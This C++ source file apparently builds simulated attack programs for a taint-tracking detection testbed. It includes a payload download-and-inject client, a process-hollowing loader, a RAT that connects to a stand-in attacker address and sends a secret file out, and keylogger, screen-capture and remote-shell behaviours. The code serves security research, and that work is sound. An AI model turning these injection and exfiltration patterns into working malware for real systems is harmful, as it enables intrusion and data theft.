#include "attacks/programs.h"

#include "attacks/guest_common.h"
#include "common/hash.h"
#include "os/runtime.h"
#include "os/syscalls.h"
#include "vm/phys_mem.h"

namespace faros::attacks {

using os::ImageBuilder;
using os::kUserImageBase;
using os::Sys;
using vm::Assembler;
using vm::Reg;

Result<os::Image> build_idle_program(const std::string& name) {
  ImageBuilder ib(name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  a.label("forever");
  emit_sys(a, Sys::kNtYield);
  a.jmp("forever");
  return ib.build();
}

Result<os::Image> build_dirty_idle_program(const std::string& name) {
  ImageBuilder ib(name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  a.movi_label(Reg::R5, "word");
  a.ld32(Reg::R5, Reg::R5);
  a.label("forever");
  emit_sys(a, Sys::kNtYield);
  a.jmp("forever");
  a.label("word");
  a.data_u32(0x5eed);
  return ib.build();
}

Result<os::Image> build_helper_program() {
  ImageBuilder ib("helper.exe", kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  a.movi_label(Reg::R1, "msg");
  a.movi(Reg::R2, 11);
  emit_sys(a, Sys::kNtDebugPrint);
  emit_exit(a, 0);
  a.label("msg");
  a.data_str("helper done", false);
  return ib.build();
}

Result<os::Image> build_inject_client(const InjectClientSpec& spec) {
  const bool dns = !spec.dns_name.empty();

  ImageBuilder ib("inject_client.exe", kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  if (dns) {
    // Stage the connection through DNS, like the Metasploit
    // reverse_tcp_dns stager.
    emit_sys(a, Sys::kNtSocket);
    a.mov(Reg::R10, Reg::R0);
    a.movi_label(Reg::R1, "c2name");
    emit_sys(a, Sys::kNtResolveHost);
    a.mov(Reg::R12, Reg::R0);
    a.mov(Reg::R1, Reg::R10);
    a.mov(Reg::R2, Reg::R12);
    a.movi(Reg::R3, kAttackerPort);
    emit_sys(a, Sys::kNtConnect);
  }
  // Download the payload into a local RW staging buffer.
  emit_download(a, kGetRequest, 4096, /*connect=*/!dns);

  if (spec.target_name.empty()) {
    // Self-injection: RWX buffer in our own space, guest-code memcpy (so
    // every payload byte's taint travels with it), then call it.
    emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
    a.mov(Reg::R6, Reg::R0);
    emit_copy_loop(a);
    a.callr(Reg::R6);  // payload should end with NtExit or ret
  } else {
    // Remote injection: find the victim, carve an RWX region in it, write
    // the payload across the process boundary, hijack its entry point.
    emit_remote_inject(a, /*suspend=*/false, /*pc_relative=*/false);
  }
  emit_exit(a, 0);

  emit_request_data(a);
  emit_data_str(a, "target", spec.target_name);
  if (dns) emit_data_str(a, "c2name", spec.dns_name);
  return ib.build();
}

Result<os::Image> build_hollow_loader(const Bytes& payload,
                                      const std::string& victim_path) {
  ImageBuilder ib("process_hollowing.exe", kUserImageBase);
  Assembler& a = ib.asm_();
  const u32 plen = static_cast<u32>(payload.size());

  a.label("_start");
  // Fork the benign child suspended.
  a.movi_label(Reg::R1, "victim");
  a.movi(Reg::R2, 1);  // CREATE_SUSPENDED
  emit_sys(a, Sys::kNtCreateProcess);
  a.mov(Reg::R7, Reg::R0);
  // Hollow it out: unmap the legitimate image.
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, kUserImageBase);
  emit_sys(a, Sys::kNtUnmapViewOfSection);
  // Carve an RWX region and write the embedded payload into it.
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, vm::page_ceil(plen));
  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(a, Sys::kNtAllocateVirtualMemory);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  a.movi_label(Reg::R3, "payload");
  a.movi(Reg::R4, plen);
  emit_sys(a, Sys::kNtWriteVirtualMemory);
  // Redirect the entry point and resume the shell.
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  emit_sys(a, Sys::kNtSetEntryPoint);
  a.mov(Reg::R1, Reg::R7);
  emit_sys(a, Sys::kNtResumeProcess);
  emit_exit(a, 0);

  emit_data_str(a, "victim", victim_path);
  a.align(8);
  a.label("payload");
  a.data(payload);
  return ib.build();
}

Result<os::Image> build_rat_program(const RatSpec& spec) {
  ImageBuilder ib(spec.name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  emit_connect(a, kAttackerIp, kAttackerPort);
  emit_send_label(a, "ready", 5);
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite);
  a.mov(Reg::R9, Reg::R0);

  a.label("main_loop");
  emit_recv(a, Reg::R9, 4096);
  a.mov(Reg::R8, Reg::R0);
  a.cmpi(Reg::R8, 0);
  a.beq("quit");
  a.ld8(Reg::R1, Reg::R9, 0);
  a.cmpi(Reg::R1, 'I');
  a.beq("do_inject");
  a.cmpi(Reg::R1, 'S');
  a.beq("do_shell");
  a.cmpi(Reg::R1, 'U');
  a.beq("do_upload");
  a.cmpi(Reg::R1, 'D');
  a.beq("do_drop");
  a.jmp("quit");

  a.label("do_inject");
  a.movi_label(Reg::R1, "target");
  emit_sys(a, Sys::kNtOpenProcessByName);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.movi(Reg::R2, 4096);
  a.movi(Reg::R3, os::kProtRead | os::kProtWrite | os::kProtExec);
  emit_sys(a, Sys::kNtAllocateVirtualMemory);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  a.mov(Reg::R3, Reg::R9);
  a.addi(Reg::R3, Reg::R3, 1);  // skip the command byte
  a.mov(Reg::R4, Reg::R8);
  a.subi(Reg::R4, Reg::R4, 1);
  emit_sys(a, Sys::kNtWriteVirtualMemory);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R6);
  emit_sys(a, Sys::kNtSetEntryPoint);
  emit_send_label(a, "done", 4);  // ack so the C2 issues the next command
  a.jmp("main_loop");

  a.label("do_shell");
  a.movi_label(Reg::R1, "helper");
  a.movi(Reg::R2, 0);
  emit_sys(a, Sys::kNtCreateProcess);
  a.mov(Reg::R1, Reg::R0);
  emit_sys(a, Sys::kNtWaitProcess);
  emit_send_label(a, "done", 4);
  a.jmp("main_loop");

  a.label("do_upload");
  a.movi_label(Reg::R1, "secret");
  emit_sys(a, Sys::kNtOpenFile);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.movi_label(Reg::R2, "iobuf");
  a.movi(Reg::R3, 64);
  emit_sys(a, Sys::kNtReadFile);
  a.mov(Reg::R6, Reg::R0);
  a.mov(Reg::R1, Reg::R10);
  a.movi_label(Reg::R2, "iobuf");
  a.mov(Reg::R3, Reg::R6);
  emit_sys(a, Sys::kNtSend);
  a.jmp("main_loop");

  a.label("do_drop");
  a.movi_label(Reg::R1, "drop");
  emit_sys(a, Sys::kNtCreateFile);
  a.mov(Reg::R7, Reg::R0);
  a.mov(Reg::R1, Reg::R7);
  a.mov(Reg::R2, Reg::R9);
  a.addi(Reg::R2, Reg::R2, 1);
  a.mov(Reg::R3, Reg::R8);
  a.subi(Reg::R3, Reg::R3, 1);
  emit_sys(a, Sys::kNtWriteFile);
  emit_send_label(a, "done", 4);
  a.jmp("main_loop");

  a.label("quit");
  emit_exit(a, 0);

  emit_data_str(a, "ready", "READY", /*nul_terminate=*/false);
  emit_data_str(a, "done", "done", /*nul_terminate=*/false);
  emit_data_str(a, "target", "explorer.exe");
  emit_data_str(a, "helper", paths::kHelper);
  emit_data_str(a, "secret", paths::kSecretDoc);
  emit_data_str(a, "drop", "C:/Temp/drop.bin");
  a.align(8);
  a.label("iobuf");
  a.zeros(64);
  return ib.build();
}

Result<os::Image> build_jit_host(const std::string& name) {
  ImageBuilder ib(name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  emit_download(a, "GETCODE");
  // "JIT-compile": emit the downloaded code into an executable buffer,
  // byte by byte with guest instructions so taint travels with the code.
  emit_alloc_self(a, 4096, os::kProtRead | os::kProtWrite | os::kProtExec);
  a.mov(Reg::R6, Reg::R0);
  emit_copy_loop(a);
  a.callr(Reg::R6);  // run the compiled unit (payload ends with ret)
  emit_exit(a, 0);

  emit_request_data(a, "GETCODE");
  return ib.build();
}

const char* behavior_name(Behavior b) {
  switch (b) {
    case Behavior::kIdle: return "Idle";
    case Behavior::kRun: return "Run";
    case Behavior::kAudioRecord: return "Audio Record";
    case Behavior::kFileTransfer: return "File Transfer";
    case Behavior::kKeylogger: return "Key logger";
    case Behavior::kRemoteDesktop: return "Remote Desktop";
    case Behavior::kUpload: return "Upload";
    case Behavior::kDownload: return "Download";
    case Behavior::kRemoteShell: return "Remote Shell";
  }
  return "?";
}

bool behavior_uses_network(Behavior b) {
  switch (b) {
    case Behavior::kFileTransfer:
    case Behavior::kRemoteDesktop:
    case Behavior::kUpload:
    case Behavior::kDownload:
    case Behavior::kRemoteShell: return true;
    default: return false;
  }
}

u32 behavior_c2_responses(Behavior b) {
  switch (b) {
    case Behavior::kDownload: return 1;   // payload data after "GIMME"
    case Behavior::kRemoteShell: return 1;  // command after "SHELL-READY"
    default: return 0;
  }
}

u32 behavior_device_chunks(Behavior b, u32* device_id) {
  switch (b) {
    case Behavior::kAudioRecord:
      *device_id = static_cast<u32>(os::DeviceId::kMicrophone);
      return 2;
    case Behavior::kKeylogger:
      *device_id = static_cast<u32>(os::DeviceId::kKeyboard);
      return 2;
    case Behavior::kRemoteDesktop:
      *device_id = static_cast<u32>(os::DeviceId::kScreen);
      return 2;
    default:
      *device_id = 0;
      return 0;
  }
}

Result<os::Image> build_behavior_program(
    const std::string& name, const std::vector<Behavior>& behaviors) {
  bool needs_net = false;
  for (Behavior b : behaviors) needs_net |= behavior_uses_network(b);

  ImageBuilder ib(name, kUserImageBase);
  Assembler& a = ib.asm_();
  a.label("_start");
  if (needs_net) emit_connect(a, kAttackerIp, kAttackerPort);

  u32 seq = 0;
  for (Behavior b : behaviors) {
    const std::string p = "b" + std::to_string(seq++);
    switch (b) {
      case Behavior::kIdle:
        // An "idle" application still pumps its event loop: some yields
        // plus a stretch of real computation.
        emit_yield_loop(a, p, 16);
        emit_busy_loop(a, p, 3000);
        break;
      case Behavior::kRun:
        a.movi_label(Reg::R1, "helper");
        a.movi(Reg::R2, 0);
        emit_sys(a, Sys::kNtCreateProcess);
        a.mov(Reg::R1, Reg::R0);
        emit_sys(a, Sys::kNtWaitProcess);
        break;
      case Behavior::kAudioRecord:
      case Behavior::kKeylogger: {
        // Record the device's chunks into a log file.
        u32 dev = 0;
        const u32 chunks = behavior_device_chunks(b, &dev);
        const bool audio = b == Behavior::kAudioRecord;
        a.movi_label(Reg::R1, audio ? "audiolog" : "keyslog");
        emit_sys(a, Sys::kNtCreateFile);
        a.mov(Reg::R12, Reg::R0);
        for (u32 i = 0; i < chunks; ++i) {
          a.movi(Reg::R1, dev);
          a.movi_label(Reg::R2, "iobuf");
          a.movi(Reg::R3, audio ? 32 : 16);
          emit_sys(a, Sys::kNtReadDevice);
          a.mov(Reg::R7, Reg::R0);
          a.mov(Reg::R1, Reg::R12);
          a.movi_label(Reg::R2, "iobuf");
          a.mov(Reg::R3, Reg::R7);
          emit_sys(a, Sys::kNtWriteFile);
        }
        break;
      }
      case Behavior::kFileTransfer:
      case Behavior::kUpload: {
        // Send the first 64 bytes of a document to the C2.
        a.movi_label(Reg::R1, b == Behavior::kUpload ? "secret" : "report");
        emit_sys(a, Sys::kNtOpenFile);
        a.mov(Reg::R12, Reg::R0);
        a.mov(Reg::R1, Reg::R12);
        a.movi_label(Reg::R2, "iobuf");
        a.movi(Reg::R3, 64);
        emit_sys(a, Sys::kNtReadFile);
        a.mov(Reg::R7, Reg::R0);
        a.mov(Reg::R1, Reg::R10);
        a.movi_label(Reg::R2, "iobuf");
        a.mov(Reg::R3, Reg::R7);
        emit_sys(a, Sys::kNtSend);
        break;
      }
      case Behavior::kRemoteDesktop: {
        for (int i = 0; i < 2; ++i) {
          a.movi(Reg::R1, static_cast<u32>(os::DeviceId::kScreen));
          a.movi_label(Reg::R2, "iobuf");
          a.movi(Reg::R3, 64);
          emit_sys(a, Sys::kNtReadDevice);
          a.mov(Reg::R7, Reg::R0);
          a.mov(Reg::R1, Reg::R10);
          a.movi_label(Reg::R2, "iobuf");
          a.mov(Reg::R3, Reg::R7);
          emit_sys(a, Sys::kNtSend);
        }
        break;
      }
      case Behavior::kDownload: {
        emit_send_label(a, "gimme", 5);
        a.movi_label(Reg::R11, "iobuf");
        emit_recv(a, Reg::R11, 128);
        a.mov(Reg::R7, Reg::R0);
        a.movi_label(Reg::R1, "dlfile");
        emit_sys(a, Sys::kNtCreateFile);
        a.mov(Reg::R12, Reg::R0);
        a.mov(Reg::R1, Reg::R12);
        a.movi_label(Reg::R2, "iobuf");
        a.mov(Reg::R3, Reg::R7);
        emit_sys(a, Sys::kNtWriteFile);
        break;
      }
      case Behavior::kRemoteShell: {
        emit_send_label(a, "shellrdy", 9);
        a.movi_label(Reg::R11, "iobuf");
        emit_recv(a, Reg::R11, 64);  // the command (content unused)
        a.movi_label(Reg::R1, "helper");
        a.movi(Reg::R2, 0);
        emit_sys(a, Sys::kNtCreateProcess);
        a.mov(Reg::R1, Reg::R0);
        emit_sys(a, Sys::kNtWaitProcess);
        emit_send_label(a, "done", 4);
        break;
      }
    }
  }
  emit_exit(a, 0);

  emit_data_str(a, "helper", paths::kHelper);
  emit_data_str(a, "report", paths::kReportDoc);
  emit_data_str(a, "secret", paths::kSecretDoc);
  emit_data_str(a, "audiolog", "C:/Temp/audio.dat");
  emit_data_str(a, "keyslog", "C:/Temp/keys.log");
  emit_data_str(a, "dlfile", "C:/Temp/download.bin");
  emit_data_str(a, "gimme", "GIMME", /*nul_terminate=*/false);
  emit_data_str(a, "shellrdy", "SHELL-RDY", /*nul_terminate=*/false);
  emit_data_str(a, "done", "done", /*nul_terminate=*/false);
  a.align(8);
  a.label("iobuf");
  a.zeros(128);
  return ib.build();
}

}  // namespace faros::attacks
